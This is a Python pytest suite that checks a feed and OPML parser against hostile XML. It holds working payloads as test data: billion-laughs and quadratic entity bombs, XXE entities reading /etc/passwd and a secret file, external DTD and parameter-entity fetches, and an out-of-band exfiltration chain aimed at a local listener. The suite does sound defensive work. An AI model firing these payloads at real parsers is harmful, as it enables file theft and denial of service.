"""Scenario 6: billion laughs, quadratic blow-up, XXE, external DTDs — for feeds and OPML.

Passes when each parse stays far from blowing up (< 1 s, < 50 MB peak RSS growth), no file
content appears in any field, and nothing is fetched (a counting listener on 127.0.0.1 stays
at 0 connections).
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import astuple
from pathlib import Path

import pytest

from broadsheet.errors import FeedParseError, SourceError
from broadsheet.models import ParsedFeed
from broadsheet.sources import parse_feed, read_opml
from broadsheet.sources.xmltext import (
    MAX_EXPANSION,
    decode_xml,
    normalize_entities,
    screen_doctype,
    screen_doctype_entities,
    set_xml_encoding,
)

MiB = 1024 * 1024
SECRET = "broadsheet-secret-4c1f"


class Listener:
    """A TCP listener that counts connections (an attempted DTD fetch would show up here)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.05)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.hits += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    live = Listener()
    yield live
    live.close()


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


def _peak_growth(action: Callable[[], object]) -> int:
    status = Path("/proc/self/status")
    if not status.exists():
        pytest.skip("needs /proc to measure memory")
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        pytest.skip("cannot reset the peak RSS counter")

    def read(field: str) -> int:
        for line in status.read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
        raise LookupError(field)

    before = read("VmRSS")
    action()
    return read("VmHWM") - before


def _xml_parser_input(body: bytes) -> str:
    """What parse_feed hands the XML parser: the work it costs is linear in its length (the
    times of these attacks are measured in benchmarks/hostile_inputs.py)."""
    text, _codec, _problems = decode_xml(body)
    text, _problems, declared = screen_doctype_entities(set_xml_encoding(text))
    return normalize_entities(text, declared)[0]


LAUGHS = "".join(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10))
ITEM = "<item><title>Kept item</title><link>https://safe.example/1</link></item>"


def attacks(port: int, secret: Path) -> dict[str, str]:
    big = "A" * 50_000
    return {
        "billion laughs": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>'
            f'<rss version="2.0"><channel><title>&lol9;</title>{ITEM}</channel></rss>'
        ),
        "billion laughs via char refs": (
            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha">'
            '<!ENTITY b "&#38;a;&#38;a;&#38;a;&#38;a;&#38;a;&#38;a;&#38;a;&#38;a;">'
            '<!ENTITY c "&#38;b;&#38;b;&#38;b;&#38;b;&#38;b;&#38;b;&#38;b;&#38;b;">]>'
            f'<rss version="2.0"><channel><title>&c;</title>{ITEM}</channel></rss>'
        ),
        "quadratic blow-up": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY big "{big}">]>'
            f'<rss version="2.0"><channel><title>{"&big;" * 20_000}</title>{ITEM}</channel></rss>'
        ),
        "small entity, many uses": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY s "{"x" * 150}">]>'
            f'<rss version="2.0"><channel><title>{"&s;" * 20_000}</title>{ITEM}</channel></rss>'
        ),
        "xxe file": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>'
            f'<rss version="2.0"><channel><title>&xxe;</title>{ITEM}</channel></rss>'
        ),
        "xxe etc passwd": (
            '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            f'<rss version="2.0"><channel><title>&xxe;</title>{ITEM}</channel></rss>'
        ),
        "xxe over http": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/x">]>'
            f'<rss version="2.0"><channel><title>&xxe;</title>{ITEM}</channel></rss>'
        ),
        "external DTD": (
            f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://127.0.0.1:{port}/rss.dtd">'
            f'<rss version="2.0"><channel><title>t</title>{ITEM}</channel></rss>'
        ),
        "external DTD, public id": (
            f'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" '
            f'"http://127.0.0.1:{port}/rss-0.91.dtd"><rss version="0.91"><channel><title>t</title>'
            f"{ITEM}</channel></rss>"
        ),
        "parameter entity": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://127.0.0.1:{port}/p.dtd">'
            f'%remote;]><rss version="2.0"><channel><title>t</title>{ITEM}</channel></rss>'
        ),
        "parameter entity exfiltration": (
            f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % file SYSTEM "file://{secret}">'
            f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:{port}/?%file;'>\">"
            f'%wrap;%send;]><rss version="2.0"><channel><title>t</title>{ITEM}</channel></rss>'
        ),
        "xinclude": (
            '<?xml version="1.0"?><rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<channel><title><xi:include href="file://{secret}" parse="text"/></title>{ITEM}'
            "</channel></rss>"
        ),
        "doctype after comment": (
            f'<?xml version="1.0"?><!-- hi --><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>'
            f'<rss version="2.0"><channel><title>&xxe;</title>{ITEM}</channel></rss>'
        ),
        "utf-16 billion laughs": (
            f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY lol0 "lol">{LAUGHS}]>'
            f'<rss version="2.0"><channel><title>&lol9;</title>{ITEM}</channel></rss>'
        ),
    }


def _all_text(feed: ParsedFeed) -> str:
    parts: list[str] = [str(feed.title), str(feed.link), *feed.problems]
    for entry in feed.entries:
        parts.extend(str(value) for value in astuple(entry))
    return "\n".join(parts)


@pytest.mark.parametrize(
    "name",
    list(attacks(0, Path("/x"))),
)
def test_scenario_6_hostile_xml(name: str, listener: Listener, secret_file: Path) -> None:
    document = attacks(listener.port, secret_file)[name]
    body = document.encode("utf-16") if name.startswith("utf-16") else document.encode()
    results: list[ParsedFeed] = []
    growth = _peak_growth(lambda: results.append(parse_feed(body)))
    feed = results[0]
    text = _all_text(feed)
    assert SECRET not in text
    assert "root:" not in text
    assert len(text) < 3 * MiB  # nothing was expanded into the fields
    assert [e.title for e in feed.entries] == ["Kept item"]  # the good part survives
    assert listener.hits == 0
    assert growth < 50 * MiB, f"{name}: peak RSS grew {growth / MiB:.1f} MiB"
    # no entity expands: the XML parser reads at most the document and the expansions kept
    assert len(_xml_parser_input(body)) <= len(document) + MAX_EXPANSION


@pytest.mark.parametrize("name", ["billion laughs", "xxe file", "external DTD", "parameter entity"])
def test_scenario_6_hostile_opml(name: str, listener: Listener, secret_file: Path) -> None:
    rss = attacks(listener.port, secret_file)[name]
    head, _, _ = rss.partition("<rss")
    head = head.replace("DOCTYPE rss", "DOCTYPE opml")
    title = "&lol9;" if "laughs" in name else ("&xxe;" if "xxe" in name else "t")
    document = (
        f'{head}<opml version="2.0"><head><title>{title}</title></head><body>'
        f'<outline text="{title}" xmlUrl="https://safe.example/feed"/></body></opml>'
    )
    results: list[object] = []

    def parse() -> None:
        try:
            results.append(read_opml(document.encode()))
        except SourceError as exc:
            results.append(exc)

    growth = _peak_growth(parse)
    assert SECRET not in repr(results)
    assert listener.hits == 0
    assert growth < 50 * MiB
    assert len(_xml_parser_input(document.encode())) <= len(document) + MAX_EXPANSION


def test_safe_internal_entities_still_work() -> None:
    feed = parse_feed(
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY co "Acme &#169; Holdings">]>'
        b'<rss version="2.0"><channel><title>&co;</title><item><title>&co; news</title></item>'
        b"</channel></rss>"
    )
    assert feed.title == "Acme © Holdings"
    assert feed.entries[0].title == "Acme © Holdings news"


@pytest.mark.parametrize(
    ("document", "kept", "dropped"),
    [
        ('<!DOCTYPE rss [<!ENTITY a "x">]><rss/>', True, False),
        ('<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]><rss/>', False, True),
        ('<!DOCTYPE rss [<!ENTITY a "&b;">]><rss/>', False, True),
        ('<!DOCTYPE rss [<!ENTITY a "&#60;b/>">]><rss/>', False, True),
        ('<!DOCTYPE rss [<!ENTITY % a "x">]><rss/>', False, True),
        ('<!DOCTYPE rss SYSTEM "http://x/y.dtd"><rss/>', False, False),
        ("<rss><description><![CDATA[ <!DOCTYPE ]]></description></rss>", False, False),
    ],
)
def test_screen_doctype_table(document: str, kept: bool, dropped: bool) -> None:
    screened, problems = screen_doctype(document)
    assert ("<!ENTITY" in screened) is kept
    assert bool(problems) is dropped
    if "CDATA" in document:
        assert screened == document  # only the prolog can hold a DOCTYPE


def test_unparseable_hostile_input_is_a_feed_parse_error(secret_file: Path) -> None:
    with pytest.raises(FeedParseError) as info:
        parse_feed(f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret_file}">]><x>&e;</x>'.encode())
    assert SECRET not in str(info.value)
